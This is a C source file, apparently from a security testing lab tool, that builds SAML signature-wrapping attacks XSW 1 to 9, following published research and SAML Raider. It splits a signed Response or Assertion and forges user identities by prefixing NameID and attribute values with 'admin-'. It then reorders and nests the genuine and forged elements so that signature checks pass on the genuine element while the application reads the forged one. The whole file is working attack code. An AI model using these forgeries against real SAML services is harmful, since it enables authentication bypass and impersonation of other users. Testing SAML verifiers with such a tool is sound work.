/*
 * wrap.c - signature wrapping, XSW 1 to 9: the signed element is kept where a verifier that searches will find it, and
 * a forged one put where the reader looks.
 *
 * 1 to 8 are those of Somorovsky and others, "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012), as
 * SAML Raider builds them; 9, a second SignedInfo, is younger (CVE-2025-29774).
 */
#include "lab/edit.h"

#include <stdio.h>

#include "lab/xmltext.h"

/* The document taken apart. Every text is a copy. */
struct parts {
    struct buf response, assertion;           /* as they came */
    struct buf response_bare, assertion_bare; /* without the Signature that is their child */
    struct buf response_signature, assertion_signature;
};

static struct buf *part(struct parts *p, size_t i)
{
    struct buf *const list[] = {&p->response,       &p->assertion,          &p->response_bare,
                                &p->assertion_bare, &p->response_signature, &p->assertion_signature};

    return list[i];
}

/* `bare` gets `whole` without its own Signature, which goes to `signature`. An element inside does not count. */
static void split(const struct buf *whole, struct slice stop, struct buf *bare, struct buf *signature)
{
    struct xmltext s, inner;

    buf_add_slice(bare, buf_slice(whole));
    if (!xmltext_find(buf_slice(whole), SLICE("Signature"), &s))
        return;
    if (stop.n && xmltext_find(buf_slice(whole), stop, &inner) && inner.from < s.from)
        return;
    buf_add(signature, whole->data + s.from, s.to - s.from);
    edit_splice(bare, s.from, s.to, SLICE(""));
}

static bool take_apart(const struct buf *doc, struct parts *p)
{
    struct xmltext el;

    for (size_t i = 0; i < 6; i++)
        buf_init(part(p, i), EDIT_DOCUMENT_MAX);
    if (!xmltext_find(buf_slice(doc), SLICE("Response"), &el))
        return false;
    buf_add(&p->response, doc->data + el.from, el.to - el.from);
    if (!xmltext_find(buf_slice(doc), SLICE("Assertion"), &el))
        return false;
    buf_add(&p->assertion, doc->data + el.from, el.to - el.from);
    split(&p->response, SLICE("Assertion"), &p->response_bare, &p->response_signature);
    split(&p->assertion, SLICE(""), &p->assertion_bare, &p->assertion_signature);
    return true;
}

static void set_id(struct buf *xml, const char *path, const char *id)
{
    struct xmltext el;
    size_t from, to;

    if (xmltext_find(buf_slice(xml), slice_of(path), &el) &&
        xmltext_attribute(buf_slice(xml), &el, SLICE("ID"), &from, &to))
        edit_splice(xml, from, to, slice_of(id));
}

enum place { BEFORE, AFTER, LAST_IN };

static void put(struct buf *xml, enum place place, const char *path, struct slice text)
{
    struct xmltext el;

    if (xmltext_find(buf_slice(xml), slice_of(path), &el)) {
        size_t at = place == BEFORE ? el.from : place == AFTER ? el.to : el.inner_to;

        edit_splice(xml, at, at, text);
    }
}

void edit_forge(struct slice xml, struct buf *out)
{
    static const char *const names[] = {"NameID", "AttributeValue"};
    struct buf text;

    buf_init(&text, EDIT_DOCUMENT_MAX);
    buf_add_slice(&text, xml);
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        char path[64];
        struct xmltext el;

        for (unsigned k = 1; k < 1000; k++) {
            (void)snprintf(path, sizeof path, "%s[%u]", names[i], k);
            if (!xmltext_find(buf_slice(&text), slice_of(path), &el))
                break;
            if (slice_find(slice_make(text.data + el.inner, el.inner_to - el.inner), '@') >= 0)
                edit_splice(&text, el.inner, el.inner, SLICE("admin-"));
        }
    }
    buf_add_slice(out, buf_slice(&text));
    buf_free(&text);
}

/* The Response as somebody else, with its Signature and the genuine Response inside of it (1) or before it (2). */
static void wrap_response(struct parts *p, bool inside, struct buf *out)
{
    edit_forge(buf_slice(&p->response_bare), out);
    set_id(out, "Response", "_evil");
    put(&p->response_signature, inside ? LAST_IN : BEFORE, "Signature", buf_slice(&p->response_bare));
    put(out, AFTER, "Issuer", buf_slice(&p->response_signature));
}

/* The Assertion as somebody else, under another ID, with or without the genuine Signature. */
static void forged_assertion(struct parts *p, bool with_signature, struct buf *ret)
{
    buf_init(ret, EDIT_DOCUMENT_MAX);
    edit_forge(buf_slice(with_signature ? &p->assertion : &p->assertion_bare), ret);
    set_id(ret, "Assertion", "_evil");
}

static void instead_of_assertion(struct parts *p, struct slice text, struct buf *out)
{
    struct xmltext el;

    buf_add_slice(out, buf_slice(&p->response));
    if (xmltext_find(buf_slice(out), SLICE("Assertion"), &el))
        edit_splice(out, el.from, el.to, text);
}

static void wrap_assertion(struct parts *p, unsigned n, struct buf *out)
{
    struct xmltext info;
    struct buf evil, copy;

    buf_init(&copy, EDIT_DOCUMENT_MAX);
    forged_assertion(p, n == 5 || n == 6 || n == 8 || n == 9, &evil);
    switch (n) {
    case 3: /* the forged one before the genuine */ buf_add_slice(&evil, buf_slice(&p->assertion)); break;
    case 4: /* around it */ put(&evil, LAST_IN, "Assertion", buf_slice(&p->assertion)); break;
    case 5: /* the Signature in the forged one, the genuine behind */
        buf_add_slice(&evil, buf_slice(&p->assertion_bare));
        break;
    case 6: /* the genuine in the Signature of the forged one */
        put(&evil, LAST_IN, "Signature", buf_slice(&p->assertion_bare));
        break;
    case 7: /* the forged one, under the genuine ID, in Extensions */
        buf_reset(&evil);
        buf_add_str(&evil, "<samlp:Extensions xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\">");
        edit_forge(buf_slice(&p->assertion_bare), &evil);
        buf_add_str(&evil, "</samlp:Extensions>");
        buf_add_slice(&evil, buf_slice(&p->assertion));
        break;
    case 8: /* as 6, in an Object */
        buf_add_str(&copy, "<Object xmlns=\"http://www.w3.org/2000/09/xmldsig#\">");
        buf_add_slice(&copy, buf_slice(&p->assertion_bare));
        buf_add_str(&copy, "</Object>");
        put(&evil, LAST_IN, "Signature", buf_slice(&copy));
        break;
    default: /* 9: a second SignedInfo behind the genuine one */
        if (xmltext_find(buf_slice(&p->assertion_signature), SLICE("SignedInfo"), &info))
            buf_add(&copy, p->assertion_signature.data + info.from, info.to - info.from);
        put(&evil, AFTER, "SignedInfo", buf_slice(&copy));
        break;
    }
    instead_of_assertion(p, buf_slice(&evil), out);
    buf_free(&copy);
    buf_free(&evil);
}

int edit_wrap(struct buf *doc, unsigned n, struct err *e)
{
    struct parts p;
    struct buf out;
    int result = -1;

    buf_init(&out, EDIT_DOCUMENT_MAX);
    if (!take_apart(doc, &p) || (n <= 2 ? p.response_signature.len : p.assertion_signature.len) == 0) {
        (void)err_set(e, ERR_USAGE, "wrap %u needs a signed %s", n, n <= 2 ? "Response" : "Assertion");
        goto out;
    }
    if (n <= 2)
        wrap_response(&p, n == 1, &out);
    else
        wrap_assertion(&p, n, &out);
    edit_splice(doc, 0, doc->len, buf_slice(&out));
    result = 0;
out:
    for (size_t i = 0; i < 6; i++)
        buf_free(part(&p, i));
    buf_free(&out);
    return result;
}
